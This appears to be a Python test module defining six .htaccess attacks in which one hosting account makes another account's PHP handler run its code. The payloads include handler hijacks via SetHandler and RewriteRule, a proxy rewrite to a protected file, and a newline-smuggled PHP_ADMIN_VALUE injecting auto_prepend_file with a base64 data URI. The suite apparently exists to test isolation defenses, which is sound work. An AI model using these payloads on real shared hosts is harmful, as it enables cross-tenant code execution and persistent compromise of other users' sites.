"""T01 to T06: what a .htaccess can say to reach another account's PHP."""

from __future__ import annotations

import base64
from dataclasses import dataclass

from tests.attacks.scene import CODE, REPORT, Scene


@dataclass(frozen=True)
class Attack:
    """A directory of alice's with a .htaccess, and what she asks for in it."""

    name: str
    htaccess: str
    """HANDLER stands for the handler, ADDRESS for the proxy's address of bob's PHP."""
    file: str | None = None
    """A file with alice's code, which bob's PHP shall run."""
    query: str = ""

    @property
    def url(self) -> str:
        return f"{self.name}/{self.query or self.file}"

    def prepare(self, scene: Scene) -> None:
        handler = scene.handler("bob")
        text = self.htaccess.replace("HANDLER", handler).replace("ADDRESS", handler.removeprefix("proxy:"))
        if self.file:
            # Open to all, as far as alice can open it.
            scene.put(f"{self.name}/{self.file}", CODE, "0644")
            tree = [f"/home/alice/sites{part}" for part in ("", "/www", "/www/app", f"/www/app/{self.name}")]
            assert scene.world.as_account("alice", "chmod", "o+x", *tree).returncode == 0
        scene.put(f"{self.name}/.htaccess", text)


_POISON = f"data:text/plain;base64,{base64.b64encode(CODE.encode()).decode()}"

WRONG_FILE = (
    Attack("t01", '<FilesMatch "\\.php$">\nSetHandler "HANDLER"\n</FilesMatch>\n', "x.php"),
    Attack("t02", '<If "true">\nSetHandler "HANDLER"\n</If>\n', "x.php"),
    Attack("t03", 'AddHandler "HANDLER" .foo\n', "x.foo"),
    Attack("t04", 'RewriteEngine On\nRewriteRule "^x\\.php$" "-" [H=HANDLER]\n', "x.php"),
)
"""They have bob's PHP run a file of alice's."""
T03 = WRONG_FILE[2]

T05 = Attack("t05", f'RewriteEngine On\nRewriteRule "^x1$" "ADDRESS{REPORT}" [P]\n', query="x1")
"""Bob's PHP runs what bob keeps from visitors."""

# Two settings need a line break between them, which no .htaccess can write: it comes out of the address.
T06 = Attack("t06", f"""\
RewriteEngine On
RewriteRule "^x1\\s$" "ADDRESS{REPORT}" [P]
SetEnvIf Request_URI "(\\s)$" "PHP_ADMIN_VALUE=allow_url_include=1$1auto_prepend_file=\\"{_POISON}\\""
SetEnv PHP_VALUE "auto_prepend_file=\\"{_POISON}\\""
""", query="x1%0a")  # fmt: skip
"""Bob's PHP runs alice's code before what it was asked for, and goes on doing so for bob's visitors."""

ATTACKS = (*WRONG_FILE, T05, T06)
